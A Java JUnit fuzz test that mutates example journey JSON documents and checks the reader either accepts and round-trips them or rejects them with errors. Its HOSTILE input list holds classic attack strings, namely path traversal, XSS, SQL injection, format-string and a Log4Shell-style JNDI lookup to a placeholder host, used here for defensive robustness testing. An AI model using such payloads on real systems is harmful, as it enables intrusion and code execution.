package dev.journeymap.core.json;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import dev.journeymap.core.Journey;
import dev.journeymap.core.validation.InvalidJourneyException;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.LongStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Feeds hundreds of mutated versions of the format document's example to the reader: each is
 * either read (and then survives a round trip) or refused with the library's own exception
 * carrying at least one error, never anything else. Seeded: a failure names its seed.
 */
class JourneyJsonFuzzTest {
  private static final ObjectMapper MAPPER = new ObjectMapper();
  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
  private static final String[] HOSTILE = {
      "", "   ", "\u0000\u0001\u001f", "\ud800", "\udc00 alone", "tab\tnew\nline\r",
      "x".repeat(3_000), "../../etc/passwd", "<script>alert(1)</script>", "' OR 1=1 --",
      "\u202e reversed", "😀👨‍👩‍👧", "%s %n %d", "${jndi:ldap://example.com/a}",
      "javascript:alert(1)", "EMIAL", "WEB ", "web", "A".repeat(65), "-starts-with-dash"};

  static Stream<Long> seeds() {
    return LongStream.rangeClosed(1, 600).boxed();
  }

  @ParameterizedTest
  @MethodSource("seeds")
  void eachMutationIsReadOrRefusedWithProblems(long seed) throws JsonProcessingException {
    String json = mutated(seed);
    Journey journey;
    try {
      journey = JourneyJson.read(json);
    } catch (InvalidJourneyException e) {
      assertThat(e.report().errors()).as("seed %d: %s", seed, json).isNotEmpty();
      return;
    }
    assertThat(JourneyJson.read(JourneyJson.write(journey))).as("seed %d", seed)
        .isEqualTo(journey);
  }

  @ParameterizedTest
  @MethodSource("seeds")
  void eachMutationOfTheAdditionsExampleIsReadOrRefusedWithProblems(long seed)
      throws JsonProcessingException {
    String json = mutated(seed, TestDocuments.ADDITIONS_EXAMPLE);
    Journey journey;
    try {
      journey = JourneyJson.read(json);
    } catch (InvalidJourneyException e) {
      assertThat(e.report().errors()).as("seed %d: %s", seed, json).isNotEmpty();
      return;
    }
    assertThat(JourneyJson.read(JourneyJson.write(journey))).as("seed %d", seed)
        .isEqualTo(journey);
  }

  @Test
  void theMutationsIncludeDocumentsThatAreReadAndDocumentsThatAreRefused()
      throws JsonProcessingException {
    int read = 0;
    for (long seed : seeds().toList()) {
      try {
        JourneyJson.read(mutated(seed));
        read++;
      } catch (InvalidJourneyException e) {
        // counted as the rest
      }
    }
    assertThat(read).isBetween(30, 570);
  }

  /** The example, mutated one to three times as {@code seed} decides. */
  private static String mutated(long seed) throws JsonProcessingException {
    return mutated(seed, TestDocuments.FORMAT_EXAMPLE);
  }

  /** The document {@code example}, mutated one to three times as {@code seed} decides. */
  private static String mutated(long seed, String example) throws JsonProcessingException {
    Random random = new Random(seed);
    JsonNode document = MAPPER.readTree(TestDocuments.text(example));
    int mutations = 1 + random.nextInt(3);
    for (int i = 0; i < mutations; i++) {
      mutate(document, random);
    }
    String json = MAPPER.writeValueAsString(document);
    if (random.nextInt(10) == 0) {
      // now and then, break the text itself rather than the tree
      int cut = random.nextInt(json.length());
      json = random.nextBoolean() ? json.substring(0, cut)
          : json.substring(0, cut) + json.substring(cut + 1);
    }
    return json;
  }

  private static void mutate(JsonNode document, Random random) {
    List<JsonNode> containers = new ArrayList<>();
    collect(document, containers);
    JsonNode container = containers.get(random.nextInt(containers.size()));
    if (container instanceof ObjectNode object) {
      List<String> names = new ArrayList<>();
      object.fieldNames().forEachRemaining(names::add);
      if (names.isEmpty()) {
        object.put("added", 1);
        return;
      }
      String name = names.get(random.nextInt(names.size()));
      switch (random.nextInt(4)) {
        case 0 -> object.remove(name);
        case 1 -> object.set(name + (random.nextBoolean() ? "x" : ""), object.remove(name));
        default -> object.set(name, replacement(object.get(name), document, random));
      }
    } else if (container instanceof ArrayNode array && !array.isEmpty()) {
      int index = random.nextInt(array.size());
      switch (random.nextInt(4)) {
        case 0 -> array.removeAll();
        case 1 -> array.add(array.get(index).deepCopy());
        default -> array.set(index, replacement(array.get(index), document, random));
      }
    }
  }

  private static JsonNode replacement(JsonNode old, JsonNode document, Random random) {
    switch (random.nextInt(12)) {
      case 0: return NODES.nullNode();
      case 1: return NODES.booleanNode(random.nextBoolean());
      case 2: return NODES.numberNode(random.nextInt(7) - 3);
      case 3: return NODES.numberNode(new BigInteger("123456789012345678901234567890"));
      case 4: return NODES.numberNode(new BigDecimal("1e400"));
      case 5: return NODES.numberNode(random.nextDouble() * 10 - 5);
      case 6: return NODES.arrayNode();
      case 7: return NODES.objectNode();
      case 8: return anotherId(document, random);
      case 9:
        if (old.isTextual() && !old.textValue().isEmpty()) {
          // a misspelling: two neighbouring characters swapped, or one dropped
          String text = old.textValue();
          int at = random.nextInt(text.length());
          return TextNode.valueOf(at + 1 < text.length() && random.nextBoolean()
              ? text.substring(0, at) + text.charAt(at + 1) + text.charAt(at)
                  + text.substring(at + 2)
              : text.substring(0, at) + text.substring(at + 1));
        }
        return TextNode.valueOf(HOSTILE[random.nextInt(HOSTILE.length)]);
      default: return TextNode.valueOf(HOSTILE[random.nextInt(HOSTILE.length)]);
    }
  }

  /** The value of some {@code id} field of the document, to make ids collide. */
  private static JsonNode anotherId(JsonNode document, Random random) {
    List<JsonNode> ids = document.findValues("id");
    return ids.get(random.nextInt(ids.size())).deepCopy();
  }

  private static void collect(JsonNode node, List<JsonNode> containers) {
    if (node.isContainerNode()) {
      containers.add(node);
      node.elements().forEachRemaining(child -> collect(child, containers));
    }
  }
}
